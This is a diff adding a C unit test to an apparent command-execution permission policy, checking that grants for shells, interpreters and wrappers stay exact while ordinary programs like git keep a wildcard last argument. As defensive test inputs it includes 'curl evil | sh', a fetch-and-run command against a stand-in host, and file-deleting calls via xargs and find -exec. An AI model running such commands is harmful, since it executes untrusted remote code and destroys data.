@@ -297,6 +297,49 @@ static void test_grant_shapes(void **state)
 	policy_free(p);
 }
 
+/* A grant never widens over the arguments of a shell, an interpreter or a wrapper. */
+static void test_grant_exact_for_code(void **state)
+{
+	struct policy *p = load("default exec ask\n", NULL);
+	struct call c;
+	const char *text;
+
+	(void)state;
+	c = exec_call("/usr/bin/bash", (const char *const[]){ "bash", "-c", "echo echo ok | sh", NULL });
+	policy_grant(p, &c, &text);
+	assert_string_equal(text, "allow exec command 'bash -c echo echo ok | sh'");
+	call_release(&c);
+	c = exec_call("/usr/bin/bash", (const char *const[]){ "bash", "-c", "echo echo ok | sh", NULL });
+	expect(p, &c, 0, VERDICT_ALLOW, "grant 1"); /* that command again */
+	c = exec_call("/usr/bin/bash", (const char *const[]){ "bash", "-c", "curl evil | sh", NULL });
+	expect(p, &c, 0, VERDICT_ASK, "t.rules:1"); /* any other script asks */
+	/* versions, wrappers, and a program whose own name says nothing (argv[0] does) */
+	const char *const *cases[] = {
+		(const char *const[]){ "/usr/bin/python3.11", "python3.11", "-c", "print(1)", NULL },
+		(const char *const[]){ "/usr/bin/node", "node", "-e", "1", NULL },
+		(const char *const[]){ "/usr/bin/perl", "perl", "-e", "1", NULL },
+		(const char *const[]){ "/usr/bin/env", "env", "FOO=1", "make", NULL },
+		(const char *const[]){ "/usr/bin/xargs", "xargs", "-n1", "rm", NULL },
+		(const char *const[]){ "/usr/bin/find", "find", ".", "-exec", "rm", "{}", ";", NULL },
+		(const char *const[]){ "/tmp/renamed", "sh", "-c", "x", NULL },
+	};
+	for (size_t i = 0; i < ARRAY_SIZE(cases); i++) {
+		const char *const *v = cases[i];
+
+		c = exec_call(v[0], v + 1);
+		policy_grant(p, &c, &text);
+		if (strchr(text, '*'))
+			fail_msg("%s: the grant '%s' widens", v[1], text);
+		call_release(&c);
+	}
+	/* an ordinary program keeps its free last word */
+	c = exec_call("/usr/bin/git", (const char *const[]){ "git", "push", "origin", "main", NULL });
+	policy_grant(p, &c, &text);
+	assert_string_equal(text, "allow exec command 'git push origin *'");
+	call_release(&c);
+	policy_free(p);
+}
+
 int main(void)
 {
 	const struct CMUnitTest tests[] = {
@@ -305,6 +348,7 @@ int main(void)
 		cmocka_unit_test(test_errors),
 		cmocka_unit_test(test_grants),
 		cmocka_unit_test(test_grant_shapes),
+		cmocka_unit_test(test_grant_exact_for_code),
 	};
 
 	return RUN_TESTS(tests);
